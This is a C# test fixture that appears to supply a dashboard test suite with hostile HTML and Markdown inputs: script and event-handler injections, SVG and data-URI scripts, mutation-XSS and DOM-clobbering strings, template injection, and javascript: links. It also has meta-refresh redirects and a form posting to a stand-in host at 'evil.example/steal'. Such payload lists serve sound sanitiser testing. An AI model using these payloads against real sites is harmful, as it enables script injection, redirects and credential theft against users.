namespace ProviderRouter.Tests.Dashboard.Hostile;

/// <summary>Texts that run, load, lead elsewhere, hide or break a page where it takes them for markup. What runs calls <c>__pwned</c>.</summary>
internal static class Payloads
{
    private const string Elsewhere = "http://evil.example";

    private static readonly string Svg = "data:image/svg+xml;base64," + Base64("<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__pwned(1)'><script>parent.__pwned(1)</script></svg>");

    private static readonly string Html = "data:text/html;base64," + Base64("<script>parent.__pwned('data')</script>");

    /// <summary>All of them, by name.</summary>
    public static IReadOnlyDictionary<string, Payload> All { get; } = new[]
    {
        Of("hpscript", "<script>__pwned('script')</script><script src=//evil.example/x.js></script>"),
        Of("hphandler", "<img src=x onerror=\"__pwned('handler')\"><body onpageshow=__pwned('body')><input autofocus onfocus=__pwned('focus')>"),
        Of("hpsvg", "<svg onload=__pwned('svg')><animate onbegin=__pwned('svg') attributeName=x dur=1s><script>__pwned('svg')</script></svg>"),
        Of("hpclosing", "--></script></style></textarea></title></template></noscript></select><script>__pwned('closing')</script>"),
        Of("hpquotes", "\" autofocus onfocus=\"__pwned('quote')\" x='' ' onmouseover='__pwned(`apostrophe`)' `"),
        Of("hpframe", $"<iframe srcdoc=\"<script>parent.__pwned('frame')</script>\"></iframe><object data=\"{Html}\"></object><embed src=\"javascript:__pwned('embed')\">"),
        Of("hprefresh", $"<meta http-equiv=\"refresh\" content=\"0;url={Elsewhere}/refresh\"><meta http-equiv=refresh content='0;url=javascript:__pwned(1)'>"),
        Of("hpstyle", $"<style>@import '{Elsewhere}/x.css'; body {{ display: none }}</style><link rel=stylesheet href={Elsewhere}/y.css><p style=\"position:fixed;inset:0;background:url({Elsewhere}/z)\">"),
        Of("hpbase", $"<base href=\"{Elsewhere}/\" target=\"_top\">"),
        Of("hpform", $"<form action=\"{Elsewhere}/steal\" method=post><input name=key value=1><button formaction=javascript:__pwned('form')>Sign in</button></form></form>"),
        Of("hptemplate", "${__pwned('template')} {{constructor.constructor('__pwned(1)')()}} @(__pwned) <%= __pwned() %> #{7*7}"),
        Of("hpentity", "&lt;script&gt;__pwned('entity')&lt;/script&gt; &#60;img src=x onerror=__pwned(1)&#62; &#x26;lt;b&#x26;gt; &NewLine;&colon;"),
        Of("hpmutation", "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=__pwned('math')></style></annotation-xml><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=__pwned('mutation')&gt;\">"),
        Of("hpclobber", "<a id=__pwned name=cookie></a><form id=document name=getElementById><input id=attributes name=nodeName></form><img name=body><div id=live><p id=rows>"),
        Of("hpdialog", "<dialog open><form method=dialog><button>Close</button></form></dialog><details open ontoggle=__pwned('details')><summary>x</summary></details><p popover id=pop>"),
        Of("hpcomment", "<!--[if gte IE 4]><script>__pwned('comment')</script><![endif]--><![CDATA[<script>__pwned('cdata')</script>]]><?php echo 1 ?>"),
        // Markdown.
        Said("hplink", "[click](javascript:__pwned('link')) [click](JaVaScRiPt&colon;__pwned(1)) [click](java\nscript:__pwned(1)) [click](\u0001javascript:__pwned(1)) [click](vbscript:x \"title\\\" onclick=__pwned(1) \")"),
        Said("hpdata", $"[click]({Html}) [click](<{Html}>) [click](blob:null) [click](file:///etc/passwd)"),
        Said("hpfence", "```\"><script>__pwned('fence')</script>\n<script>__pwned('code')</script>\n</code></pre><img src=x onerror=__pwned('pre')>\n```\n    <script>__pwned('indented')</script>\n\n`<img src=x onerror=__pwned('span')>`"),
        Said("hpreference", $"[click][r] ![see][i] [r]\n\n[r]: javascript:__pwned('reference')\n[i]: {Elsewhere}/reference.png 'onerror=__pwned(1)'\n\n[^1]: <script>__pwned(1)</script>\n\n"),
        Said("hpauto", $"<javascript:__pwned('auto')> <{Html}> <a\u0000:b> {Elsewhere}/\"onmouseover=\"__pwned(1) www.evil.example/'><script>__pwned(1)</script> x@evil.example"),
        Said("hpimage", $"![p]({Elsewhere}/pixel.png \"t\") ![p](//evil.example/pixel.png) ![p](\\\\evil.example\\p.png) ![\"onerror=\"__pwned(1)](x)"),
        Said("hpvector", $"![s]({Svg}) ![s]({Html}) ![s](data:image/png;base64,\"onerror=\"__pwned('vector'))"),
        Said("hpnesting", string.Concat(Enumerable.Repeat("> ", 400)) + "deep\n\n" + new string('[', 3_000) + new string('*', 3_000) + "\n\n" + string.Concat(Enumerable.Repeat("<div>", 1_000)) + string.Concat(Enumerable.Range(0, 150).Select(i => new string(' ', i * 2) + "- x\n")) + "\n\n"),
        Said("hpletters", "\u202Egnp.exe\u202C \u2066\u2067 a\u0000b \u0007\u001B[31m\u001B]0;title\u0007 \uFEFF\uFFFE \u200B\u200D \r\r\n \u2028\u2029 e" + new string('\u0301', 200)),
    }.ToDictionary(payload => payload.Name, StringComparer.Ordinal);

    private static Payload Of(string name, string text) => new(name, $"{text} {name}", text);

    private static Payload Said(string name, string text) => new(name, $"{text} {name}", "");

    private static string Base64(string text) => Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(text));
}
